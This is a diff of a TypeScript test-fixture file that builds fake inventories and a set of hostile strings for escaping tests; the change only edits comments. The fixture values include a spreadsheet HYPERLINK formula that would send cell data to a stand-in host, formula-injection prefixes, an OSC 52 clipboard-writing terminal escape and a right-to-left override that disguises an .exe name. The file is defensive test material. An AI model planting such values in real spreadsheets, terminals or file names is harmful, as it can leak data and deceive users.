@@ -1,6 +1,6 @@
 /**
- * Builders of realistic inventories for tests, hostile names included (reliability.md §4.3–4.5,
- * cases D6, F1, F2). Every builder returns fresh objects, so a test may mutate what it gets.
+ * Builders of realistic inventories for tests, hostile names included (docs/reliability.md §4.3–§4.5,
+ * docs/cases.md D6, F1, F2). Every builder returns fresh objects, so a test may mutate what it gets.
  */
 import { SCHEMA_VERSION, type Inventory, type InventoryOptions } from "../../src/report/inventory-types.ts";
 import type { LocalInfo, ModelSpecInfo, SidecarInfo, TrainingInfo } from "../../src/local/local-types.ts";
@@ -26,7 +26,7 @@ export function fakeHex(seed: string, length = 64): string {
  * exact text. Use `Object.values(HOSTILE_STRINGS)` to spray them over every field.
  */
 export const HOSTILE_STRINGS = {
-  // F1: spreadsheet formulas and separators
+  // docs/cases.md F1: spreadsheet formulas and separators
   hyperlink: '=HYPERLINK("http://x?"&A1,"click")',
   minusFormula: "-2+3",
   plusOne: "+1",
@@ -37,7 +37,7 @@ export const HOSTILE_STRINGS = {
   separators: 'a,b;c"d""e',
   innerNewlines: "line1\nline2\r\nline3\rline4",
   owaspExample: '=1+2";=1+2',
-  // F2: Markdown and HTML
+  // docs/cases.md F2: Markdown and HTML
   pipe: "left | right",
   backslashPipe: "left \\| right",
   backticks: "code `x` here",
@@ -54,7 +54,7 @@ export const HOSTILE_STRINGS = {
   heading: "# Heading",
   listMarker: "- item",
   emphasis: "*bold* _it_ ~~strike~~ $x^2$",
-  // D6: terminal escapes
+  // docs/cases.md D6: terminal escapes
   escOsc52: "evil\u001b]52;c;SGVsbG8=\u0007name",
   escCsi: "red\u001b[31mtext\u001b[0m",
   bidi: "abc\u202Egpj.exe",
